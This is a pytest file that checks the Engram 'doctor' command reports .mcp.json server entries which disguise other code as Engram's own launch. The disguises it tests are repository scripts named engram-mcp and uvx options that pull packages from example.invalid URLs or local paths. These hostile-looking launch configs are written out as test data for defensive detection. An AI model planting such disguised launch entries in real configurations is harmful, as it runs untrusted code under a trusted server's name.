"""Variants of issue 27 class 5 the first tests did not try: an `engram` entry whose launch
itself runs code of the repository's choosing while it still looks like Engram's own command.

- `command: "./bin/engram-mcp"`: a script in the repository, named like Engram's server;
- `uvx --with <pkg>` / `--from <url>` / `--python <path>` / `--index-url`: uvx installs or runs
  something else beside `engram-protocol` (a `--with` package's `.pth` or `sitecustomize` runs in
  the approved server).
Doctor must report each (`host.wrapped_launch` or `host.entry_env`) as an error in a project file.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.trust.trust_doors import cli

CODES = ("host.wrapped_launch", "host.entry_env", "host.untrusted_command")


def _reported(project: Path, capsys: pytest.CaptureFixture[str],
              entry: dict[str, Any]) -> list[dict[str, Any]]:
    for rel in ("bin/engram-mcp", "tools/engram-mcp"):  # the repository's own scripts
        (project / rel).parent.mkdir(parents=True, exist_ok=True)
        (project / rel).write_text("#!/bin/sh\nexit 0\n")
        (project / rel).chmod(0o755)
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"engram": entry}}))
    out = cli(capsys, "doctor", "--json")[1]
    found = json.loads(out[out.index("{"):])["data"]["findings"]
    return [f for f in found if ".mcp.json" in f["message"] and f["level"] == "error"]


LAUNCHES: dict[str, dict[str, Any]] = {
    "script-in-repo": {"command": "./bin/engram-mcp"},
    "script-in-repo-bare": {"command": "tools/engram-mcp"},
    "uvx-with": {"command": "uvx", "args": ["--with", "./vendor/helper", "--from",
                                            "engram-protocol", "engram-mcp"]},
    "uvx-from-url": {"command": "uvx", "args": [
        "--from", "engram-protocol @ git+https://example.invalid/x.git", "engram-mcp"]},
    "uvx-python": {"command": "uvx", "args": ["--python", "./bin/python", "--from",
                                              "engram-protocol", "engram-mcp"]},
    "uvx-index": {"command": "uvx", "args": ["--index-url", "https://example.invalid/simple",
                                             "--from", "engram-protocol", "engram-mcp"]},
}


@pytest.fixture
def uvx_on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A `uvx` outside the project, so doctor does not stop at "missing executable"."""
    import os

    tools = tmp_path / "user-tools"
    tools.mkdir()
    (tools / "uvx").write_text("#!/bin/sh\nexit 0\n")
    (tools / "uvx").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ.get('PATH', '')}")


@pytest.mark.parametrize("how", list(LAUNCHES))
def test_a_launch_that_runs_other_code_is_reported(
        layout: Path, capsys: pytest.CaptureFixture[str], how: str, uvx_on_path: None) -> None:
    project = layout.parent.parent
    found = _reported(project, capsys, LAUNCHES[how])
    codes = sorted({f["code"] for f in found})
    assert set(codes) & set(CODES), f"doctor did not report {how} as a launch: {codes}"


def test_engrams_own_uvx_form_stays_silent(layout: Path, capsys: pytest.CaptureFixture[str],
                                           uvx_on_path: None) -> None:
    project = layout.parent.parent
    found = _reported(project, capsys, {"command": "uvx", "args": [
        "--from", "engram-protocol==0.9.0", "engram-mcp"]})
    assert not [f for f in found if f["code"] in CODES], found
